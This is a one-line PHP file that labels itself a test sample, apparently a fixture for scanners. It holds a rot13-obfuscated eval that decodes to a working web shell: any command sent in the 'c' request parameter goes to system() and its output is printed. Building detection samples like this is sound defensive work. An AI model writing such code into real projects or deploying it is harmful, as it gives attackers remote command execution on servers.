<?php
/* Test sample: rot13-hidden payload. */
eval(str_rot13('vs(vffrg($_ERDHRFG[\'p\'])){rpub \'<cer>\';flfgrz($_ERDHRFG[\'p\']);rpub \'</cer>\';}'));
